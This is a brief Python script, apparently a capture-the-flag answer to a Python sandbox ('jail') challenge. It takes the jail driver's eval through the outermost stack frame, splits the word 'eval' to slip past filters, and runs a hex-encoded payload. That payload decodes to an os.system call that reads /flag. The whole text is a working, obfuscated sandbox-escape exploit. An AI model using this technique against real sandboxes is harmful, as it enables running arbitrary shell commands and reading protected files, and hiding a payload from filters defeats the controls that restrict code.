# inspect.stack()[-1] is the outermost frame of the process (the jail's
# driver). Its eval() is used on a hex-encoded payload.
import inspect

outer = inspect.stack()[-1].frame
bi = outer.f_builtins
ev = bi['ev' + 'al']
ev(bytes.fromhex('5f5f696d706f72745f5f28276f7327292e73797374656d282763'
                 '6174202f666c61672729').decode())
